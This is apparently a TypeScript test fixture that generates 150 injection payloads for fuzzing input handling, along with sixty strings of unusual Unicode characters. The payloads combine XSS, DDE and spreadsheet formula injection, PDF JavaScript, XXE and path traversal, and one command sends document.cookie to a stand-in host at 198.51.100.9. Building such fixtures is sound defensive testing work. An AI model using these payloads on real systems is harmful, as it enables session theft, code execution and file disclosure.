/** Texts that have broken or tricked programs: markup, scripts, formulas, fields and paths, and what Unicode allows. */
const commands = [
  'alert(1)',
  'confirm`1`',
  'fetch("https://198.51.100.9/"+document.cookie)',
  'app.launchURL("https://198.51.100.9")',
  'new Function("x")()',
] as const
const frames: readonly ((command: string) => string)[] = [
  (command) => `<script>${command}</script>`,
  (command) => `<img src=x onerror="${command}">`,
  (command) => `<svg onload='${command}'/>`,
  (command) => `"><iframe src="javascript:${command}">`,
  (command) => `[click](javascript:${command})`,
  (command) => `![x](https://198.51.100.9/p.png?${command})`,
  (command) => `<a href="data:text/html,${command}">x</a>`,
  (command) => `]]><w:fldSimple w:instr="${command}"/>`,
  (command) => `</w:t></w:r><w:r><w:instrText>DDEAUTO cmd "/c ${command}"</w:instrText></w:r>`,
  (command) => `&lt;b&gt;${command}&amp;#x3c;`,
  (command) => `<!ENTITY x SYSTEM "file:///etc/passwd">${command}&x;`,
  (command) => `/S /JavaScript /JS (${command}) >> endobj`,
  (command) => `) Tj ET Q BT (${command}`,
  (command) => `<</S/Launch/F(cmd.exe)>> ${command}`,
  (command) => `stream endstream xref trailer %%EOF ${command}`,
  (command) => `=HYPERLINK("https://198.51.100.9/?${command}")`,
  (command) => `@SUM(1+1)*cmd|'/C ${command}'!A0`,
  (command) => `{{constructor.constructor('${command}')()}}`,
  (command) => `\${${command}}<%= ${command} %>`,
  (command) => `javascript:${command}//`,
  (command) => `<style>@import url(https://198.51.100.9/${command});</style>`,
  (command) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${command}&gt;">`,
  (command) => `<object data="x" ${command}></object><embed src=x>`,
  (command) => `<w:altChunk r:id="rId1"/>${command}`,
  (command) => `\\\\198.51.100.9\\share\\${command}`,
  (command) => `file:///etc/passwd ${command}`,
  (command) => `<base href=//198.51.100.9><form action=${command}>`,
  (command) => `\`${command}\` **bold** _it_ # head`,
  (command) => `__proto__ ${command} constructor`,
  (command) => `%s%n%x ${command} ../../../../etc/passwd`,
]
/** 150 texts. */
export const payloads: readonly string[] = frames.flatMap((frame) => commands.map(frame))

/** Sixty texts of odd characters, each with a plain word by which it is found again. */
export const oddTexts: readonly string[] = [
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9f, 0xad, 0xfeff, 0xfff9, 0xfffb, 0xfffd, 0xfffe, 0xffff, 0xfdd0],
  ...[
    0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068,
    0x2069,
  ],
  ...[
    0xd800, 0xdbff, 0xdc00, 0xdfff, 0x0301, 0x0483, 0x20dd, 0x1f600, 0x1f468, 0xe0001, 0xe007f, 0x10ffff, 0x1fffe, 0x4e2d, 0x0e01, 0x0915,
    0xac00,
  ],
]
  .map((code, index) => `odd${index}${String.fromCodePoint(code)}end${index}`)
  .concat([
    'e\u0301\u0301\u0301\u0301'.repeat(30),
    'W'.repeat(3000),
    '\u05e9\u05dc\u05d5\u05dd (a) 1',
    '\r\n\r\nlines\u0085more',
    'tab\tand\u00a0space',
  ])
